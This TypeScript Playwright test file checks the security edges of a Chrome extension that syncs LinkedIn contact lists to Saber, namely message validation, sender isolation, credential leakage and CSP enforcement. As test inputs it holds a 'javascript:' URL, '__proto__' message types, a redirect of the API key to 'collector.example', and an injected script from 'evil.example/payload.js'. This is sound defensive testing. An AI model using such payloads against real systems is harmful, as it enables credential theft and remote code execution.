import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { chromium, type BrowserContext, type ConsoleMessage, type Page, type Request, type Worker } from '@playwright/test';
import { DEFAULT_ACCESS_TOKEN } from '../fake-linkedin/fake-linkedin';
import { FakeSaber } from '../fake-saber/fake-saber';
import { routeFakeSaber, SABER_ORIGIN } from '../fake-saber/playwright';
import {
  EXPECTED_CSP,
  EXPECTED_HOST_PERMISSIONS,
  EXPECTED_OPTIONAL_HOST_PERMISSIONS,
  EXPECTED_PERMISSIONS,
} from '../fixtures/manifest/expected';
import { EXTENSION_DIR, expect, test } from './fixtures';
import { PanelPage } from './pages/panel-page';
import { extensionLaunchArgs, findChromium } from './support/chromium';
import { callBackground, readTable, seedList, sendMessage } from './support/extension';
import { fakeLinkedIn, signInToLinkedIn } from './support/fake-linkedin';

/**
 * Trust at the extension's edges, end to end in Chromium: who may send the background
 * messages, what a malformed one does (nothing), where the Saber key and the LinkedIn token
 * go (only into their own Authorization header, to their own origin), and the manifest
 * Chromium actually loaded.
 */

const FOREIGN_EXTENSION_DIR = resolve(import.meta.dirname, '../fixtures/foreign-extension');
const LINKEDIN_API_ORIGIN = 'https://api.linkedin.com';
const TABLES = ['lists', 'items', 'baseContacts', 'jobs', 'stagedPages', 'outbox', 'meta', 'versions', 'leavers'] as const;

/** Everything a message could have changed: every table, and the settings. */
async function everythingStored(page: Page): Promise<Record<string, unknown>> {
  const tables = Object.fromEntries(await Promise.all(TABLES.map(async (table) => [table, await readTable(page, table)] as const)));
  const storage = await page.evaluate(() => chrome.storage.local.get(null));
  return { ...tables, storage };
}

const STRIPE_LIST = {
  name: 'Revenue leaders at Stripe',
  filters: { companyLinkedInUrls: ['https://www.linkedin.com/company/stripe'], jobTitles: ['VP Sales'] },
  contacts: [{ baseContactId: 'urn:li:member:1', fullName: 'Ada Lovelace', role: 'VP Sales' }],
};

test('malformed messages from the panel are refused naming the field, and change nothing', async ({ context, extensionUrl }) => {
  const page = await context.newPage();
  await page.goto(extensionUrl('sidepanel.html'));
  const list = await seedList(page, STRIPE_LIST);
  const before = await everythingStored(page);

  const refusals: [type: unknown, payload: unknown, field: string | RegExp][] = [
    ['lists.rename', { listId: list.id, name: '' }, 'payload.name'],
    ['lists.rename', { listId: list.id, name: 'x'.repeat(201) }, 'payload.name'],
    ['lists.rename', { listId: list.id }, 'payload.name'],
    ['lists.delete', { listId: 7 }, 'payload.listId'],
    ['lists.setAutoRefresh', { listId: list.id, auto: 'hourly' }, 'payload.auto'],
    ['jobs.cancel', { jobId: '' }, 'payload.jobId'],
    ['linkedin.readTab', { url: 'x'.repeat(100_001) }, 'payload.url'],
    ['capture.start', {}, /^payload\./],
    ['capture.start', { ...STRIPE_LIST, filters: { companyLinkedInUrls: ['javascript:alert(1)'] } }, /^payload\.filters/],
    ['settings.save', { saberApiKey: 'pk_test_123' }, 'saberApiKey'],
    ['settings.save', { saberBaseUrl: 'http://127.0.0.1:8787' }, 'saberBaseUrl'],
    ['settings.save', { saberBaseUrl: 'https://user:secret@api.saber.app' }, 'saberBaseUrl'],
    ['settings.save', { saberBaseUrl: 'https://api.saber.app/?key=1' }, 'saberBaseUrl'],
    ['settings.save', { isAdmin: true }, 'isAdmin'],
    ['settings.save', { dailyPageBudget: 1e9 }, 'dailyPageBudget'],
    // The test-only message that created a list with a caller-chosen Saber id is gone.
    ['lists.create', { ...STRIPE_LIST, sync: { state: 'synced', remoteId: 'cl_chosen' } }, 'type'],
    ['__proto__', {}, 'type'],
    ['constructor', {}, 'type'],
    [42, {}, 'type'],
  ];
  for (const [type, payload, field] of refusals) {
    const reply: unknown = await page.evaluate((message): Promise<unknown> => chrome.runtime.sendMessage(message), { type, payload });
    expect(reply, JSON.stringify({ type, payload }).slice(0, 120)).toMatchObject({
      ok: false,
      error: {
        status: 400,
        error: 'validation_error',
        details: expect.arrayContaining([
          expect.objectContaining({ field: typeof field === 'string' ? field : expect.stringMatching(field) }),
        ]),
      },
    });
  }
  for (const notAnEnvelope of ['hello', null, [], 17, { payload: {} }]) {
    expect(await page.evaluate((message): Promise<unknown> => chrome.runtime.sendMessage(message), notAnEnvelope)).toMatchObject({
      ok: false,
      error: { status: 400 },
    });
  }

  expect(await everythingStored(page)).toEqual(before);
  // And the background still answers what is well formed.
  expect(await sendMessage(page, 'ping', {})).toMatchObject({ ok: true });
});

/** Chromium with the built extension (and `others`) in a profile of the test's own, whose files it can read. */
async function launchInOwnProfile(...others: string[]) {
  const profile = mkdtempSync(join(tmpdir(), 'listwright-e2e-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: findChromium(),
    headless: true,
    args: extensionLaunchArgs(EXTENSION_DIR, ...others),
  });
  return { profile, context, remove: () => rmSync(profile, { recursive: true, force: true }) };
}

test('chrome.storage.local, which holds the key and the token, is for trusted contexts only', async () => {
  const { profile, context, remove } = await launchInOwnProfile();
  try {
    const [worker] = await serviceWorkersOf(context, 1);
    const id = new URL(worker!.url()).host;
    const page = await context.newPage();
    await page.goto(`chrome-extension://${id}/sidepanel.html`);
    expect(await sendMessage(page, 'ping', {})).toMatchObject({ ok: true });
    // Chrome keeps the access level in the profile's preferences, written out when the browser closes.
    await context.close();
    const preferences = JSON.parse(readFileSync(join(profile, 'Default', 'Preferences'), 'utf8')) as {
      extensions?: { settings?: Record<string, { storage_local_access_level?: number }> };
    };
    // 1 is TRUSTED_CONTEXTS (extension pages and workers); a content script may not read the area.
    expect(preferences.extensions?.settings?.[id]?.storage_local_access_level).toBe(1);
  } finally {
    await context.close();
    remove();
  }
});

test('a web page cannot reach the background, and neither can another extension or its content script', async () => {
  const { context, remove } = await launchInOwnProfile(FOREIGN_EXTENSION_DIR);
  try {
    const workers = await serviceWorkersOf(context, 2);
    const ours = workers.find((worker) => worker.url().endsWith('/background.js'))!;
    const foreign = workers.find((worker) => worker !== ours)!;
    const ourId = new URL(ours.url()).host;
    const panel = await context.newPage();
    await panel.goto(`chrome-extension://${ourId}/sidepanel.html`);
    const list = await seedList(panel, STRIPE_LIST);
    const before = await everythingStored(panel);
    const attempts = [
      { type: 'lists.rename', payload: { listId: list.id, name: 'Renamed by a stranger' } },
      { type: 'lists.delete', payload: { listId: list.id } },
      { type: 'settings.save', payload: { saberBaseUrl: 'https://collector.example' } },
      { type: 'capture.start', payload: STRIPE_LIST },
      { type: 'saber.pull', payload: {} },
    ];

    // A LinkedIn page: no extension API at all, so nothing to send with.
    await context.route('https://www.linkedin.com/listwright-test**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>LinkedIn</title><p>A page</p>' }),
    );
    const web = await context.newPage();
    await web.goto('https://www.linkedin.com/listwright-test');
    expect(
      await web.evaluate(() => typeof (window as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime?.sendMessage),
    ).toBe('undefined');

    for (const message of attempts) {
      // Another extension's worker: Chrome finds no one listening for other extensions.
      const fromWorker = await foreign.evaluate(
        async ([id, sent]) =>
          chrome.runtime.sendMessage(id, sent).then(
            (reply: unknown) => ({ reply }),
            (error: Error) => ({ error: error.message }),
          ),
        [ourId, message] as const,
      );
      expect(fromWorker).toEqual({ error: expect.stringMatching(/Receiving end does not exist/) });

      // Its content script in a LinkedIn page: the same.
      const page = await context.newPage();
      await page.goto(`https://www.linkedin.com/listwright-test?${new URLSearchParams({ to: ourId, message: JSON.stringify(message) })}`);
      await expect.poll(() => page.evaluate(() => document.documentElement.dataset.outcome ?? '')).not.toBe('');
      const fromContentScript = JSON.parse((await page.evaluate(() => document.documentElement.dataset.outcome)) ?? '{}') as unknown;
      expect(fromContentScript).toEqual({ error: expect.stringMatching(/Receiving end does not exist/) });
      await page.close();
    }

    expect(await everythingStored(panel)).toEqual(before);
    expect(await sendMessage(panel, 'ping', {})).toMatchObject({ ok: true });
  } finally {
    await context.close();
    remove();
  }
});

/** The first `count` service workers of the context, waiting for those not started yet. */
async function serviceWorkersOf(context: BrowserContext, count: number): Promise<Worker[]> {
  await expect.poll(() => context.serviceWorkers().length).toBeGreaterThanOrEqual(count);
  return context.serviceWorkers();
}

/** A request as it left the browser: where to, every header, the body. */
interface SentRequest {
  url: string;
  headers: Record<string, string>;
  body: string;
  fromServiceWorker: boolean;
}

/** Every console message and uncaught error of every page and service worker, and every request, from now on. */
function recordEverything(context: BrowserContext, serviceWorker: Worker) {
  const consoleLines: string[] = [];
  const pending: Promise<void>[] = [];
  const requests: SentRequest[] = [];
  const onConsole = (message: ConsoleMessage) => {
    pending.push(
      (async () => {
        const args = await Promise.all(message.args().map((arg) => arg.jsonValue().catch(() => '')));
        consoleLines.push(`${message.type()}: ${message.text()} ${JSON.stringify(args)}`);
      })(),
    );
  };
  const onRequest = (request: Request) => {
    pending.push(
      (async () => {
        requests.push({
          url: request.url(),
          headers: await request.allHeaders(),
          body: request.postData() ?? '',
          fromServiceWorker: request.serviceWorker() !== null,
        });
      })(),
    );
  };
  const watchWorker = (worker: Worker) => worker.on('console', onConsole);
  context.on('console', onConsole);
  context.on('weberror', (error) => consoleLines.push(`uncaught: ${error.error().message}`));
  context.on('request', onRequest);
  context.on('serviceworker', watchWorker);
  watchWorker(serviceWorker);
  return {
    consoleLines,
    requests,
    /** Waits for the headers and arguments still being read. */
    settled: async () => {
      while (pending.length > 0) await Promise.all(pending.splice(0));
    },
  };
}

/**
 * Where `secret` appears in a request: nowhere, or exactly as `Authorization: Bearer <secret>` to
 * `origin`. Anything else (the URL, another header, the body, another origin) is a leak.
 */
function leaksOf(requests: readonly SentRequest[], secret: string, origin: string): string[] {
  const leaks: string[] = [];
  for (const request of requests) {
    const { authorization, ...others } = request.headers;
    if (request.url.includes(secret)) leaks.push(`URL ${request.url}`);
    if (request.body.includes(secret)) leaks.push(`body of ${request.url}`);
    for (const [name, value] of Object.entries(others)) if (value.includes(secret)) leaks.push(`${name} header of ${request.url}`);
    if (authorization?.includes(secret) && (new URL(request.url).origin !== origin || authorization !== `Bearer ${secret}`)) {
      leaks.push(`Authorization of ${request.url}`);
    }
  }
  return leaks;
}

test('the Saber key and the LinkedIn token go nowhere but their own Authorization header to their own origin', async ({
  context,
  serviceWorker,
  extensionUrl,
}) => {
  test.setTimeout(120_000);
  const key = `sk_live_trust_${Math.random().toString(36).slice(2, 12)}`;
  const token = DEFAULT_ACCESS_TOKEN;
  const record = recordEverything(context, serviceWorker);
  const saber = new FakeSaber({ apiKey: key });
  await routeFakeSaber(context, saber);
  await signInToLinkedIn(context);
  const linkedIn = await fakeLinkedIn(context, { total: 40 });

  // Typed into Settings as a person would, with the shortest pauses Settings allow.
  const page = await context.newPage();
  const panel = new PanelPage(page, extensionUrl);
  await panel.open('#/settings');
  await page.getByRole('textbox', { name: 'Saber API key' }).fill(key);
  await page.getByRole('textbox', { name: 'LinkedIn access token' }).fill(token);
  await page.getByRole('spinbutton', { name: 'Shortest pause (seconds)' }).fill('0.5');
  await page.getByRole('spinbutton', { name: 'Longest pause (seconds)' }).fill('0.5');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Settings saved.' })).toBeVisible();
  await page.getByRole('button', { name: 'Show Saber API key' }).click();
  await page.getByRole('button', { name: 'Test connection' }).click();
  await expect(page.getByRole('group', { name: 'Saber' }).getByRole('status')).toContainText('Sales Navigator is connected');

  // A capture, its push to Saber, and a pull of a list made on Saber.
  const { jobId } = await callBackground<{ jobId: string }>(page, 'capture.start', {
    name: 'VP Sales at Stripe',
    filters: { companyLinkedInUrls: ['https://www.linkedin.com/company/stripe'], jobTitles: ['VP Sales'] },
  });
  const jobStatus = async (id: string) =>
    (await readTable<{ id: string; status: string }>(page, 'jobs')).find((job) => job.id === id)?.status;
  await expect.poll(() => jobStatus(jobId), { timeout: 60_000 }).toBe('done');
  const [captured] = await readTable<{ id: string; sync?: { state: string } }>(page, 'lists');
  await callBackground(page, 'saber.push', { listId: captured!.id });
  const syncOf = async (id: string) =>
    (await readTable<{ id: string; sync?: { state: string } }>(page, 'lists')).find((list) => list.id === id)?.sync?.state;
  await expect.poll(() => syncOf(captured!.id), { timeout: 30_000 }).toBe('synced');
  saber.seedList({ name: 'Made on Saber', contactCount: 3 });
  const pull = await callBackground<{ jobId: string }>(page, 'saber.pull', {});
  await expect.poll(() => jobStatus(pull.jobId), { timeout: 30_000 }).toBe('done');
  await panel.nav('Lists').click();
  await expect(page.getByRole('link', { name: 'Made on Saber' })).toBeVisible();
  await record.settled();

  // The key did travel, and only as it should.
  const toSaber = record.requests.filter((request) => new URL(request.url).origin === SABER_ORIGIN);
  expect(toSaber.map((request) => new URL(request.url).pathname)).toEqual(
    expect.arrayContaining(['/v1/connectors', '/v1/contacts/lists', `/v1/contacts/lists/${saber.allLists()[0]!.id}/contacts`]),
  );
  expect(toSaber.every((request) => request.headers.authorization === `Bearer ${key}` && request.fromServiceWorker)).toBe(true);
  expect(linkedIn.searches.length).toBeGreaterThan(0);
  expect(leaksOf(record.requests, key, SABER_ORIGIN)).toEqual([]);
  // No job sends the token yet ("Your network" will, to api.linkedin.com only).
  expect(leaksOf(record.requests, token, LINKEDIN_API_ORIGIN)).toEqual([]);

  // Not in any console message, page or worker.
  expect(record.consoleLines.filter((line) => line.includes(key) || line.includes(token))).toEqual([]);
  // Not in IndexedDB; in chrome.storage.local only as the settings.
  const { storage, ...tables } = await everythingStored(page);
  expect(JSON.stringify(tables)).not.toContain(key);
  expect(JSON.stringify(tables)).not.toContain(token);
  expect(storage).toEqual({ settings: expect.objectContaining({ saberApiKey: key, linkedInAccessToken: token }) });
  // Nor in the panel's address or title.
  expect(page.url()).not.toContain(key);
  expect(await page.title()).not.toContain(key);
});

test('a rejected key stops the outbox: a worker restart and a settings write send nothing, Retry and a new key do', async ({
  context,
  extensionUrl,
}) => {
  const saber = new FakeSaber();
  await routeFakeSaber(context, saber);
  const page = await context.newPage();
  const panel = new PanelPage(page, extensionUrl);
  await panel.open('#/settings');
  const key = page.getByRole('textbox', { name: 'Saber API key' });
  await key.fill('sk_live_revoked_key_0001');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Settings saved.' })).toBeVisible();
  const list = await seedList(page, STRIPE_LIST);
  const posts = () => saber.requestsTo('POST', /^\/v1\/contacts\/lists$/);

  // The push meets a 401: the outbox is stopped, and Settings says so with a way out.
  await callBackground(page, 'saber.push', { listId: list.id });
  await expect.poll(() => posts().length).toBe(1);
  const stopped = page.getByRole('group', { name: 'Saber' }).getByRole('status').filter({ hasText: 'Sending to Saber is stopped' });
  await expect(stopped).toContainText('Saber rejected the API key.');
  await panel.expectAccessible('settings, sending to Saber stopped');

  // The service worker stopped and started again, and a save that keeps the key: nothing sent, no job.
  const cdp = await context.newCDPSession(page);
  const worker = (await cdp.send('Target.getTargets')).targetInfos.find(
    (target) => target.type === 'service_worker' && target.url.startsWith(extensionUrl('')),
  );
  await cdp.send('Target.closeTarget', { targetId: worker!.targetId });
  await expect.poll(async () => (await cdp.send('Target.getTargets')).targetInfos.some((t) => t.targetId === worker!.targetId)).toBe(false);
  expect(await sendMessage(page, 'ping', {})).toMatchObject({ ok: true });
  await page.getByRole('spinbutton', { name: 'LinkedIn pages per day' }).fill('120');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Settings saved.' })).toBeVisible();

  // Retry sends once more (still refused); the right key sends it through.
  await stopped.getByRole('button', { name: 'Retry sending' }).click();
  await expect.poll(() => posts().length).toBe(2);
  await expect(stopped).toBeVisible();
  await key.fill(saber.apiKey);
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(stopped).toHaveCount(0);
  await expect.poll(async () => (await readTable<{ id: string; sync?: { state: string } }>(page, 'lists'))[0]?.sync?.state).toBe('synced');
  expect(posts().map((post) => post.headers.authorization)).toEqual([
    'Bearer sk_live_revoked_key_0001',
    'Bearer sk_live_revoked_key_0001',
    `Bearer ${saber.apiKey}`,
  ]);
  // One drain job on record: each new one replaced the one that failed. It ends a step after the list is synced.
  await expect
    .poll(async () => (await readTable<{ kind: string; status: string }>(page, 'jobs')).map((job) => [job.kind, job.status]))
    .toEqual([['saber.outbox', 'done']]);
});

test('the manifest Chromium loaded asks for exactly what the audit expects, and runs no remote code', async ({ context, extensionUrl }) => {
  const page = await context.newPage();
  await page.goto(extensionUrl('sidepanel.html'));
  const manifest = await page.evaluate(() => chrome.runtime.getManifest());
  expect(manifest.permissions).toEqual(EXPECTED_PERMISSIONS);
  expect(manifest.host_permissions).toEqual(EXPECTED_HOST_PERMISSIONS);
  expect(manifest.optional_host_permissions).toEqual(EXPECTED_OPTIONAL_HOST_PERMISSIONS.production);
  expect(manifest.content_security_policy).toEqual({ extension_pages: EXPECTED_CSP });
  expect(manifest.content_scripts).toBeUndefined();
  expect(manifest.externally_connectable).toBeUndefined();
  expect(manifest.web_accessible_resources).toBeUndefined();

  // Every script of the panel comes from the package.
  const scripts = await page.evaluate(() => [...document.scripts].map((script) => script.src));
  expect(scripts.length).toBeGreaterThan(0);
  expect(scripts.filter((src) => !src.startsWith(extensionUrl('')))).toEqual([]);
  // The CSP is enforced in the page: a remote script and an inline one are refused. (Eval is refused by
  // the same policy, but code Playwright evaluates is exempt from it, so only the unit audit can say so.)
  const refused = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/payload.js';
    const inline = document.createElement('script');
    inline.textContent = 'document.title = "ran"';
    document.head.append(remote, inline);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { violations: [...new Set(violations)].sort(), title: document.title };
  });
  expect(refused.violations).toEqual(['script-src-elem https://evil.example/payload.js', 'script-src-elem inline']);
  expect(refused.title).not.toBe('ran');
});
